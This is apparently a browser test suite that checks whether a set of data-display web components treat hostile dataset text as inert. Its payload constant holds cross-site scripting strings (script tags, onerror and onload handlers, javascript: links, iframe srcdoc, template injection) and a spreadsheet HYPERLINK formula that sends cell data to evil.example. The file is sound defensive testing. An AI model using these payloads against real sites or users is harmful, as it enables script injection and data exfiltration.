// Issue 10, point 2: HTML and script payloads in every free-text field of a `src` dataset are shown
// as text and never run. The page counts executions; the shadow roots must hold no element the
// payloads would have made; links keep the address whole; the CSV defuses spreadsheet formulas.
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import '../src/index.js';
import { bundledDataset } from '../src/data/bundled.js';

type Widget = HTMLElement & { updateComplete: Promise<boolean> };
declare global {
  interface Window {
    __otXss?: (where?: string) => void;
  }
}

/** Every way a string could run if it were parsed as HTML, a template or a formula. */
const PAYLOAD = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '<img src=x onerror="window.__otXss(\'img\')">',
  '<script>window.__otXss("script")</script>',
  '<svg onload="window.__otXss(\'svg\')"></svg>',
  '<iframe srcdoc="<script>parent.__otXss(\'iframe\')</script>"></iframe>',
  '<a href="javascript:window.__otXss(\'href\')" id="otXssLink">link</a>',
  '<style>*{display:none!important}</style>',
  '{{constructor.constructor("window.__otXss(\'template\')")()}}',
  '${window.__otXss("literal")}',
  '</span></div></template>"\'><b>broken out</b>',
].join(' ');
/** A web address that passes the schema (no spaces) and tries to leave its attribute. */
const URL_PAYLOAD = '/?q="><img/src=x/onerror=window.__otXss(1)><script>window.__otXss(2)</script>';

/** Keys whose strings are free text (the rest are ids, codes, dates and enums the schema constrains). */
const FREE_TEXT = new Set(['publisher', 'title', 'note', 'actor', 'name', 'shortName', 'depositary']);

function poisoned(): { dataset: unknown; fields: number } {
  let fields = 0;
  const walk = (value: unknown, key = ''): unknown => {
    if (Array.isArray(value)) return value.map((v) => walk(v));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, k)]));
    if (typeof value !== 'string') return value;
    if (FREE_TEXT.has(key)) {
      fields++;
      return `${PAYLOAD} ${value}`;
    }
    if (key === 'url') {
      fields++;
      return `${value}${URL_PAYLOAD}`;
    }
    return value;
  };
  return { dataset: walk(structuredClone(bundledDataset)), fields };
}

const WIDGETS = [
  ['ot-treaty-badge', { country: 'PL', 'as-of': '2025-11-28' }],
  ['ot-treaty-badge', { country: 'EE', 'as-of': '2025-11-28', 'no-footer': '' }],
  ['ot-casualty-counter', { breakdown: '', trend: '', static: '' }],
  ['ot-pledge-bar', { countries: 'PL,EE,LV,LT,FI', history: '' }],
  ['ot-withdrawal-timeline', { 'as-of': '2026-03-01' }],
] as const;

describe('hostile data: payloads in a src dataset are text, never code', () => {
  let ran: string[] = [];
  const errors: string[] = [];
  const onError = (e: ErrorEvent) => errors.push(e.message);
  let widgets: Widget[] = [];
  let fields = 0;

  before(async () => {
    window.__otXss = (where = '?') => void ran.push(String(where));
    window.addEventListener('error', onError);
    const poison = poisoned();
    fields = poison.fields;
    const src = URL.createObjectURL(new Blob([JSON.stringify(poison.dataset)], { type: 'application/json' }));
    const page = await fixture<HTMLElement>(html`<div lang="en-GB" style="width: 900px"></div>`);
    widgets = WIDGETS.map(([tag, attrs]) => {
      const el = document.createElement(tag) as Widget;
      for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
      el.setAttribute('src', src);
      page.append(el);
      return el;
    });
    await waitUntil(() => widgets.every((el) => !el.matches(':state(loading)')), 'src never loaded', { timeout: 5000 });
    await Promise.all(widgets.map((el) => el.updateComplete));
    // a broken-out <img src=x> would have failed to load and run its onerror by now
    await new Promise((r) => setTimeout(r, 300));
  });
  after(() => {
    delete window.__otXss;
    window.removeEventListener('error', onError);
  });

  it(`the payload dataset is valid, so every widget uses it (${poisoned().fields} free-text fields poisoned)`, () => {
    expect(fields).to.be.greaterThan(300);
    for (const el of widgets) {
      expect(el.matches(':state(fallback)'), el.localName).to.equal(false);
      expect(el.matches(':state(error)'), el.localName).to.equal(false);
    }
  });

  it('nothing ran', () => {
    expect(ran).to.deep.equal([]);
    expect(errors).to.deep.equal([]);
  });

  for (const [i, [tag, attrs]] of WIDGETS.entries()) {
    it(`${tag}${'no-footer' in attrs ? ' (no-footer)' : ''}: shows the payload as text and makes none of its elements`, () => {
      const root = widgets[i]!.shadowRoot!;
      expect(root.querySelectorAll('script, iframe, img, style, b, #otXssLink, [onerror], [onload], [srcdoc]').length).to.equal(0);
      // the payload is there, as words the reader can see (or hear, in an accessible name)
      const words = `${root.textContent} ${[...root.querySelectorAll('[aria-label]')].map((e) => e.getAttribute('aria-label')).join(' ')}`;
      expect(words).to.contain('<img src=x onerror="window.__otXss(\'img\')">');
      expect(words).to.contain('<script>window.__otXss("script")</script>');
      // links keep the whole address in their href, nothing leaks out of the attribute
      for (const a of root.querySelectorAll('a')) {
        expect(a.getAttribute('href')).to.match(/^https?:\/\/\S+\/\?q="><img\/src=x\/onerror=window\.__otXss\(1\)><script>window\.__otXss\(2\)<\/script>$/);
        expect(a.children.length).to.equal(0);
      }
    });
  }

  it('"Get the data" makes CSV files in which no cell starts a formula', async () => {
    const files: string[] = [];
    const create = URL.createObjectURL;
    const click = HTMLAnchorElement.prototype.click;
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      files.push('');
      const at = files.length - 1;
      void (blob as Blob).text().then((t) => (files[at] = t));
      return 'blob:captured';
    };
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      if (!this.download) click.call(this);
    };
    try {
      const buttons = widgets.map((el) => el.shadowRoot!.querySelector<HTMLButtonElement>('[part=footer] button')).filter((b) => !!b);
      expect(buttons.length).to.equal(WIDGETS.length - 1); // all but the no-footer badge
      for (const b of buttons) b!.click();
      await waitUntil(() => files.length === buttons.length && files.every(Boolean), 'no CSV made');
    } finally {
      URL.createObjectURL = create;
      HTMLAnchorElement.prototype.click = click;
    }
    const all = files.join('\n');
    expect(all).to.contain('HYPERLINK'); // the payload is in the files…
    expect(all).to.not.match(/(^|,)"?[=+@]/m); // …but never at the start of a cell
    expect(ran).to.deep.equal([]);
  });
});
